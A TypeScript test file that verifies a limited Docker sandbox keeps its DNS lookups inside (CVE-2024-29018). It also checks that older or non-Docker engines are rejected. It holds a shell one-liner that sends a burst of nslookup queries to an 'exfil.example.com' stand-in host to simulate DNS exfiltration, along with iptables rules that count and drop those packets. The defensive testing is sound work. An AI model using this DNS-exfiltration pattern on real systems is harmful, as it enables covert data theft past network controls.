// A `limited` sandbox's DNS lookups never leave the sandbox (CVE-2024-29018: on engines older than 26 the
// embedded DNS of an `--internal` network forwards them). Counted on the host with iptables: raw-table
// rules that match DNS packets (UDP and TCP port 53) carrying a token unique to this run, those arriving
// from the sandbox's bridge and those this host sends itself (the engine forwarding from the host's side).
// The rules also drop what they match, so no lookup of this test reaches a DNS server, fixed or not.
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dnsLeakRisk } from '../../electron/core/hands/docker/dns.ts';
import { networkFor, type SandboxNetwork } from '../../electron/core/hands/docker/network.ts';
import { bridgeOf, buildImage, canBuild, isRoot, removeImage, run, runIn } from './network-rig.ts';
import { docker } from './sandbox-rig.ts';

const SESSION = `sesn_dns${process.pid}`;

describe('which engines keep a limited sandbox’s DNS in', () => {
  const engine = (version: string) => ({ Version: version, Components: [{ Name: 'Engine', Version: version }] });
  it('trusts Docker Engine 20.10 and newer', () => {
    for (const v of ['20.10.24+dfsg1', '20.10.0', '24.0.7', '26.1.4', '27.3.1']) expect(dnsLeakRisk(engine(v)), v).toBeUndefined();
  });
  it('refuses older Docker Engines and engines that only speak its API, saying why', () => {
    expect(dnsLeakRisk(engine('19.03.15'))).toMatch(/^on Docker Engine 19\.03\.15 a sandbox's DNS lookups could leave this host \(CVE-2024-29018\); it needs Docker Engine 20\.10 or newer$/);
    expect(dnsLeakRisk({ Version: '4.9.3', Components: [{ Name: 'Podman Engine', Version: '4.9.3' }] })).toMatch(/not Docker Engine \(Podman Engine 4\.9\.3\)/);
    expect(dnsLeakRisk({ Version: '1.0' })).toMatch(/not Docker Engine \(1\.0\)/);
  });
});

/** The raw-table rules that count (and drop) DNS packets carrying `token`: from `bridge`, and sent by this host. */
const counters = (bridge: string, token: string) =>
  ['udp', 'tcp'].flatMap((p) => [
    ['PREROUTING', '-i', bridge, '-p', p, '--dport', '53', '-m', 'string', '--string', token, '--algo', 'bm', '-j', 'DROP'],
    ['OUTPUT', '-p', p, '--dport', '53', '-m', 'string', '--string', token, '--algo', 'bm', '-j', 'DROP'],
  ]);

/** Packets the counting rules of `token` matched. */
async function counted(token: string): Promise<number> {
  let sum = 0;
  for (const chain of ['PREROUTING', 'OUTPUT']) {
    const { stdout } = await run('iptables', ['-w', '-t', 'raw', '-L', chain, '-v', '-x', '-n']);
    for (const line of stdout.split('\n')) if (line.includes(`"${token}"`)) sum += Number(line.trim().split(/\s+/)[0]);
  }
  return sum;
}

/** 20 lookups of `d<N>.<token>.exfil.example.com` at once through the container's resolver, each given 3 s. */
const lookups = (token: string) => `for i in $(seq 20); do (timeout 3 nslookup d$i.${token}.exfil.example.com >/dev/null 2>&1 &); done; sleep 4; echo done`;

const ready = canBuild && isRoot;
describe.skipIf(!ready)(ready ? 'limited sandbox DNS (real Docker engine, iptables)' : 'limited sandbox DNS (SKIPPED: needs Docker, busybox and root)', () => {
  let net: SandboxNetwork;
  let bridge: string;
  const installed: string[][] = [];

  beforeAll(async () => {
    await buildImage();
    net = await networkFor(docker, SESSION, { type: 'limited', allowed_hosts: ['example.com'], allow_package_managers: false, allow_mcp_servers: false });
    ({ bridge } = await bridgeOf(net.hostConfig.NetworkMode));
  });
  afterAll(async () => {
    for (const r of installed) await run('iptables', ['-w', '-t', 'raw', '-D', ...r]).catch(() => undefined);
    await net?.cleanup();
    await removeImage();
    expect(await docker.listNetworks({ filters: { label: [`dockhand.session=${SESSION}`] } })).toEqual([]);
  });

  const count = async (token: string) => {
    for (const r of counters(bridge, token)) {
      await run('iptables', ['-w', '-t', 'raw', '-I', ...r]);
      installed.push(r);
    }
  };

  it('sends no DNS packet out of the sandbox for 20 lookups, where a container without the setting sends them', async () => {
    const [control, sandbox] = [`ctl${randomBytes(5).toString('hex')}`, `sbx${randomBytes(5).toString('hex')}`];
    await count(control);
    await count(sandbox);
    // The same network without the sandbox's DNS setting: the counting sees its lookups go out.
    const plain = await runIn(SESSION, net, lookups(control), { hostConfig: { NetworkMode: net.hostConfig.NetworkMode } });
    expect(plain.out).toContain('done');
    expect(await counted(control)).toBeGreaterThanOrEqual(20);
    // The sandbox as networkFor makes it.
    expect(net.hostConfig.Dns).toEqual(['127.0.0.1']);
    const { out } = await runIn(SESSION, net, `${lookups(sandbox)}; cat /etc/resolv.conf`);
    expect(out).toContain('done');
    expect(out).toContain('nameserver 127.0.0.11'); // the lookups did go to the embedded DNS
    expect(await counted(sandbox)).toBe(0);
  });
});
